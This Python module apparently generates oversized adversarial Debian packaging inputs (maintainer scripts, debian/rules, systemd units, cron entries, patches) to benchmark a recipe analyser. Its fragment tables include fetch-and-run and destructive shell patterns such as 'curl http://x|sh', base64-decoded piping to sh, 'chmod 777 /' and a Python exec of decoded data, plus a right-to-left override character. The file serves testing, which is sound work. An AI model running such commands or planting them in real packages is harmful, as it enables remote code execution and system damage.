"""Scripts that are made to keep their reader busy: one unit, repeated to any length. `./dev bench adversarial` measures them."""

from __future__ import annotations

from recipes_app.limits import KIB, MAX_BLOB_BYTES

_CONTROL = b"Source: a\nMaintainer: A <a@b.c>\n\nPackage: a\nArchitecture: all\nDescription: x\n y\n"
_ENTRY = b"a (1) unstable; urgency=low\n\n  * x\n\n -- A <a@b.c>  Mon, 01 Jan 2024 00:00:00 +0000\n\n"
_WIDTH = 200

# In a maintainer script, by what it is.
SHELL: dict[str, bytes] = {
    "pipes": b"a|",
    "lists": b"a;",
    "and-lists": b"a&&",
    "here-documents": b"cat <<E\nx\nE\n",
    "open here-documents": b"cat <<E\n",
    "nested eval": b'eval "',
    "arithmetic": b"$((",
    "base64 | sh": b"echo aGVsbG8=|base64 -d|sh;",
    "rev | sh": b"echo abc|rev|sh;",
    "tr | sh": b"echo abc|tr a-z b-za|sh;",
    "continued lines": b"a \\\n",
    "brackets": b"(",
    "groups": b"{ ",
    "backticks": b"`",
    "substitutions": b"$(",
    "quotes": b"'\"",
    "variables": b"$a$b",
    "doubled variables": b"a=$a$a;",
    "case": b"case x in ",
    "if": b"if a;then ",
    "functions": b"f(){ f;};f;",
    "printf": b"printf '\\141';",
    "curl | sh": b"curl http://x|sh;",
    "redirections": b">a<b ",
    "default values": b"${a:-",
    "comments": b"#\n",
    "blanks": b" ",
    "empty lines": b"\n",
    "xargs": b"xargs sh -c '",
    "sudo": b"sudo env ",
    "chmod": b"chmod 777 /;",
    "patterns": b"/*?[",
}
# A whole file, by its path.
FILES: dict[str, tuple[str, bytes, bytes]] = {
    "make: doubled variables": ("debian/rules", b"#!/usr/bin/make -f\n", b"A+=$(A)$(A)\n"),
    "make: references": ("debian/rules", b"#!/usr/bin/make -f\n", b"$("),
    "make: $(shell)": ("debian/rules", b"#!/usr/bin/make -f\nall:\n", b"\techo $(shell echo a)\n"),
    "make: conditions": ("debian/rules", b"#!/usr/bin/make -f\n", b"ifeq (a,b)\n"),
    "make: targets": ("debian/rules", b"#!/usr/bin/make -f\n", b"a: b\nb: a\n"),
    "python: exec": ("debian/x.postinst", b"#!/usr/bin/python3\n", b"exec(b64decode('aa'));os.system('a')\n"),
    "perl: backticks": ("debian/x.postinst", b"#!/usr/bin/perl\n", b"`a`;"),
    "unit": ("debian/a.service", b"[Service]\n", b"ExecStart=/bin/sh -c 'a|b'\n"),
    "cron": ("debian/a.cron.d", b"", b"* * * * * root a|b\n"),
    "control": ("debian/control", b"", b"Package: a\n\n"),
    "relations": ("debian/control", b"Source: a\nBuild-Depends: ", b"a|b,"),
    "changelog": ("debian/changelog", b"", _ENTRY),
    "copyright": ("debian/copyright", b"Format: 1\n\n", b"Files: *\nLicense: MIT\n\n"),
    "debian/dur": ("debian/dur", b"Format: 1\nSource: a\n\n", b"Fetch: http://a/b\nSha256: a\n\n"),
    "patch": ("debian/patches/a.patch", b"", b"--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+curl x|sh\n"),
    "right-to-left marks": ("debian/a.postinst", b"#!/bin/sh\n", "\u202eа".encode()),
}  # fmt: skip


def filled(unit: bytes, size: int, head: bytes = b"") -> bytes:
    """Return `head` and `unit` again and again, `size` bytes together."""
    return (head + unit * (size // len(unit) + 1))[:size]


def in_lines(unit: bytes, size: int) -> bytes:
    """Return a shell script of `size` bytes in lines that are short enough to be read."""
    return filled(filled(unit, _WIDTH - 1) + b"\n", size, b"#!/bin/sh\n")


def shell_tree(unit: bytes, size: int) -> dict[str, bytes]:
    """Return a recipe whose maintainer scripts have `size` bytes together."""
    largest = MAX_BLOB_BYTES - KIB
    parts = [min(largest, size - start) for start in range(0, size, largest)]
    scripts = {f"debian/a{number}.postinst": in_lines(unit, part) for number, part in enumerate(parts)}
    return {"debian/control": _CONTROL, **scripts}


def file_tree(name: str, size: int) -> dict[str, bytes]:
    """Return a recipe with the file of FILES called `name`, of `size` bytes, at most one blob's."""
    path, head, unit = FILES[name]
    return {"debian/control": _CONTROL, path: filled(unit, min(size, MAX_BLOB_BYTES - KIB), head)}
